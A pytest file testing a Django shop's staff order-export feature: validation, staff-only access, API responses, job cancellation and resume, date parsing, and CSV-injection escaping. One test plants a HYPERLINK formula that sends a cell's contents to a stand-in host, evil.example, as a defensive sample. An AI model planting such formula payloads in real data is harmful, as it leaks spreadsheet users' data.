"""Staff's order exports: the request (validation, one transaction with its job), the pages
(staff only, the download to staff only) and the API. The job itself, on real workers:
tests/integration/test_order_exports.py and tests/faults/test_export_resume.py."""

import csv
import io
from datetime import date, timedelta

import pytest
from django.contrib.auth import get_user_model
from django.utils import timezone

from jobs.models import Job
from shop import exports, services
from shop.models import OrderExport
from shop.tokens import issue_token
from tests.factories import CustomerFactory, many_orders

pytestmark = pytest.mark.django_db


@pytest.fixture
def staff():
    return get_user_model().objects.create_user(
        username="ops@example.com", email="ops@example.com", password="x-ops-1", is_staff=True
    )


@pytest.fixture
def staff_client(client, staff):
    client.force_login(staff)
    return client


def test_an_export_is_recorded_with_its_job_in_one_go(staff):
    export = services.request_order_export(
        by=staff, start=date(2026, 11, 1), end=date(2026, 11, 30)
    )

    job = Job.objects.get()
    assert export.job == job
    assert (job.name, job.queue, job.state) == ("jobs.export_orders", "bulk", "queued")
    assert job.kwargs == {"export_id": export.pk}
    assert job.concerning == export
    assert export.requested_by == staff


@pytest.mark.parametrize(
    ("start", "end", "message"),
    [
        (date(2026, 11, 2), date(2026, 11, 1), "The end must be on or after the start."),
        (
            date(2025, 1, 1),
            date(2026, 1, 2),
            "An export spans at most 366 days; this one spans 367.",
        ),
    ],
)
def test_a_bad_range_is_refused_and_writes_nothing(staff, start, end, message):
    with pytest.raises(services.ExportRejected) as refused:
        services.request_order_export(by=staff, start=start, end=end)

    assert refused.value.errors == {"end": [message]}
    assert not OrderExport.objects.exists()
    assert not Job.objects.exists()


def test_the_exports_page_is_for_staff_only(client):
    assert client.get("/ops/exports").status_code == 302  # to the login page
    assert client.get("/ops/exports")["Location"].startswith("/login")
    client.force_login(CustomerFactory().user)
    assert client.get("/ops/exports").status_code == 403
    assert (
        client.post("/ops/exports", {"start": "2026-11-01", "end": "2026-11-02"}).status_code == 403
    )
    assert not OrderExport.objects.exists()


def test_staff_start_an_export_from_the_page(staff_client):
    response = staff_client.post("/ops/exports", {"start": "2026-11-01", "end": "2026-11-30"})

    assert response.status_code == 302
    export = OrderExport.objects.get()
    assert (export.start, export.end) == (date(2026, 11, 1), date(2026, 11, 30))
    page = staff_client.get("/ops/exports").content.decode()
    assert f'id="export-{export.pk}"' in page
    assert "2026-11-01 to 2026-11-30" in page
    assert "Cancel" in page  # queued: it can be cancelled


@pytest.mark.parametrize(
    ("form", "field", "message"),
    [
        ({"start": "2026-11-02", "end": "2026-11-01"}, "end", "on or after the start"),
        ({"start": "01/11/2026", "end": "2026-11-01"}, "start", "Enter a valid date."),
        ({"end": "2026-11-01"}, "start", "This field is required."),
    ],
)
def test_bad_input_on_the_page_gets_a_400_with_the_fields_message(
    staff_client, form, field, message
):
    response = staff_client.post("/ops/exports", form)

    assert response.status_code == 400
    assert message in " ".join(response.context["form"].errors[field])
    assert not OrderExport.objects.exists()
    assert not Job.objects.exists()


def _finished_export(staff) -> OrderExport:
    """An export written by the job's work, called here directly (no worker)."""
    many_orders(3)
    today = timezone.now().date()
    export = services.request_order_export(by=staff, start=today, end=today)
    exports.write_export(export_id=export.pk, report=lambda *, done, total: True)
    export.refresh_from_db()
    return export


def test_the_download_is_offered_to_staff_only(client, staff):
    export = _finished_export(staff)
    url = f"/ops/exports/{export.pk}/download"

    assert client.get(url).status_code == 302  # a visitor: the login page
    client.force_login(CustomerFactory().user)
    assert client.get(url).status_code == 404  # signed in, not staff: nothing here
    client.force_login(staff)
    response = client.get(url)
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv"
    assert f'filename="{export.download_name}"' in response["Content-Disposition"]
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows[0] == exports.COLUMNS
    assert len(rows) == 4


def test_an_unfinished_export_offers_no_file(staff_client, staff):
    export = services.request_order_export(by=staff, start=date(2026, 1, 1), end=date(2026, 1, 2))

    assert staff_client.get(f"/ops/exports/{export.pk}/download").status_code == 404
    assert staff_client.get("/ops/exports/999/download").status_code == 404
    assert "Download CSV" not in staff_client.get("/ops/exports").content.decode()


def test_the_export_writes_only_the_orders_of_its_days(staff):
    inside = many_orders(2)
    outside = many_orders(1, sku="EXP-002")
    today = timezone.now().date()
    from shop.models import Order

    Order.objects.filter(pk__in=outside).update(created_at=timezone.now() - timedelta(days=2))
    export = services.request_order_export(by=staff, start=today, end=today)

    name = exports.write_export(export_id=export.pk, report=lambda *, done, total: True)

    with exports.exports_storage().open(name) as written:
        rows = list(csv.reader(io.StringIO(written.read().decode())))
    assert [int(r[0]) for r in rows[1:]] == inside
    assert rows[1][5] == "EXP-001 x2"
    assert rows[1][3].endswith("@example.com")


def test_the_api_starts_an_export_for_staff_only(api_client, staff):
    body = {"start": "2026-11-01", "end": "2026-11-30"}
    customer = CustomerFactory()
    api_client.credentials(HTTP_AUTHORIZATION=f"Bearer {issue_token(customer.user)}")
    assert api_client.post("/api/ops/exports", body, format="json").status_code == 403
    api_client.credentials(HTTP_AUTHORIZATION=f"Bearer {issue_token(staff)}")

    bad = api_client.post(
        "/api/ops/exports", {"start": "2026-11-30", "end": "2026-11-01"}, format="json"
    )
    assert bad.status_code == 400
    assert bad.json() == {"errors": {"end": ["The end must be on or after the start."]}}
    assert not OrderExport.objects.exists()

    response = api_client.post("/api/ops/exports", body, format="json")
    assert response.status_code == 202, response.content
    answer = response.json()
    export = OrderExport.objects.get()
    assert answer["export"]["id"] == export.pk
    assert answer["export"]["start"] == "2026-11-01"
    assert answer["job"]["id"] == str(export.job_id)
    assert answer["job"]["name"] == "jobs.export_orders"
    followed = api_client.get(f"/api/jobs/{export.job_id}")
    assert followed.status_code == 200
    assert followed.json()["job"]["progress"] is None  # until its run reports


def test_the_demo_seeds_past_orders_to_export_once(staff):
    from django.core.management import call_command

    from shop.models import Order

    call_command("seed_demo", quiet=True, orders=40)
    call_command("seed_demo", quiet=True, orders=40)  # topped up, not added again

    orders = Order.objects.filter(customer__user__email="regular@example.com")
    assert orders.count() == 40
    assert not Job.objects.exists()  # history: no charge, no email
    oldest = orders.order_by("created_at").first()
    assert oldest.created_at > timezone.now() - timedelta(days=31)
    assert all(
        order.total == sum(line.quantity * line.unit_price for line in order.lines.all())
        for order in orders
    )


def test_the_dashboard_asks_a_running_export_to_stop_and_refuses_other_running_jobs(
    staff_client, staff
):
    export = services.request_order_export(by=staff, start=date(2026, 1, 1), end=date(2026, 1, 2))
    Job.objects.filter(pk=export.job_id).update(state="running", attempts=1)
    other = Job.objects.create(name="jobs.charge_payment", queue="critical", state="running")
    page = staff_client.get("/ops/").content.decode()
    assert f'/ops/jobs/{export.job_id}/cancel"' in page  # a Cancel button for it alone
    assert f'/ops/jobs/{other.pk}/cancel"' not in page

    asked = staff_client.post(
        f"/ops/jobs/{export.job_id}/cancel", {"reason": "not now"}, follow=True
    )

    assert "to stop" in asked.content.decode()
    job = Job.objects.get(pk=export.job_id)
    assert (job.state, job.stopping) == ("running", True)
    assert "stopping: cancel asked" in staff_client.get("/ops/").content.decode()
    refused = staff_client.post(f"/ops/jobs/{other.pk}/cancel", {"reason": "x"}, follow=True)
    assert "a running job cannot be cancelled" in refused.content.decode()
    assert Job.objects.get(pk=other.pk).cancel_requested_at is None


def test_a_run_learns_of_the_stop_only_while_it_holds_its_job(staff):
    from jobs import ledger, operations

    export = services.request_order_export(by=staff, start=date(2026, 1, 1), end=date(2026, 1, 2))
    job_id = str(export.job_id)
    Job.objects.filter(pk=job_id).update(state="running", attempts=2)

    assert ledger.report_progress(job_id, attempt=2, done=1, total=9) is ledger.Progress.RECORDED
    operations.cancel(job_id, by=staff, reason="stop it")
    assert ledger.report_progress(job_id, attempt=2, done=2, total=9) is (
        ledger.Progress.CANCEL_REQUESTED
    )
    assert ledger.cancel_reason(job_id) == "stop it"
    # A run that was taken over (attempt 1) is not told anything, and records nothing.
    assert ledger.report_progress(job_id, attempt=1, done=5, total=9) is ledger.Progress.NOT_HELD
    assert Job.objects.get(pk=job_id).progress == {"done": 1, "total": 9}


def test_a_run_that_loses_its_job_stops_and_the_next_resumes_after_its_last_chunk(staff, settings):
    """The work alone, with a report that says when the run no longer holds its job."""
    settings.EXPORT_CHUNK_ROWS = 4
    order_ids = many_orders(10)
    today = timezone.now().date()
    export = services.request_order_export(by=staff, start=today, end=today)

    def held_for(reports: int):
        made = []

        def report(*, done: int, total: int) -> bool:
            made.append(done)
            return len(made) <= reports

        return report

    # Counted, then lost before its first chunk was recorded; then lost after one chunk.
    assert exports.write_export(export_id=export.pk, report=held_for(1)) is None
    export.refresh_from_db()
    assert (export.rows_total, export.chunks_done) == (10, 0)
    assert exports.write_export(export_id=export.pk, report=held_for(2)) is None
    export.refresh_from_db()
    assert (export.chunks_done, export.rows_written, export.last_order_id) == (1, 4, order_ids[3])

    name = exports.write_export(export_id=export.pk, report=held_for(99))

    export.refresh_from_db()
    assert export.resumed_from_chunk == 2
    assert (export.chunks_done, export.rows_written) == (3, 10)
    with exports.exports_storage().open(name) as written:
        rows = list(csv.reader(io.StringIO(written.read().decode())))
    assert [int(row[0]) for row in rows[1:]] == order_ids


def test_a_range_its_job_could_not_count_is_refused_not_accepted_to_die(api_client, staff):
    # The last day a date can be: the orders "before the next day" cannot be asked for, and
    # an export accepted for it would only fail in its job.
    api_client.credentials(HTTP_AUTHORIZATION=f"Bearer {issue_token(staff)}")

    response = api_client.post(
        "/api/ops/exports", {"start": "9999-12-31", "end": "9999-12-31"}, format="json"
    )

    assert response.status_code == 400, response.content
    assert list(response.json()["errors"]) == ["end"]
    assert not OrderExport.objects.exists()
    assert not Job.objects.exists()


def test_a_customers_name_is_never_a_formula_in_the_staffs_spreadsheet(staff):
    # Customers choose their names; staff open the CSV in a spreadsheet, which runs a cell
    # that starts with = + - or @ as a formula (CSV injection).
    many_orders(1)
    from shop.models import Customer

    Customer.objects.update(name='=HYPERLINK("http://evil.example/?"&A1,"open")')
    today = timezone.now().date()
    export = services.request_order_export(by=staff, start=today, end=today)

    name = exports.write_export(export_id=export.pk, report=lambda *, done, total: True)

    with exports.exports_storage().open(name) as written:
        rows = list(csv.reader(io.StringIO(written.read().decode())))
    assert rows[1][4] == '\'=HYPERLINK("http://evil.example/?"&A1,"open")'


@pytest.mark.parametrize(
    "day",
    [
        "20261101",
        "2026-W44-7",
        "2026-305",
        "\u0662\u0660\u0662\u0666-\u0661\u0661-\u0660\u0661",
        "2026-11-01T00:00",
        20261101,
        None,
    ],
)
def test_an_export_day_is_written_yyyy_mm_dd_and_nothing_else(api_client, staff, day):
    # Python's date.fromisoformat() (Django's parse_date) also reads a day without dashes, an
    # ISO week or ordinal date; its fallback pattern reads any script's digits.
    api_client.credentials(HTTP_AUTHORIZATION=f"Bearer {issue_token(staff)}")

    response = api_client.post(
        "/api/ops/exports", {"start": day, "end": "2026-11-30"}, format="json"
    )

    assert response.status_code == 400, response.content
    assert list(response.json()["errors"]) == ["start"]
    assert not OrderExport.objects.exists()
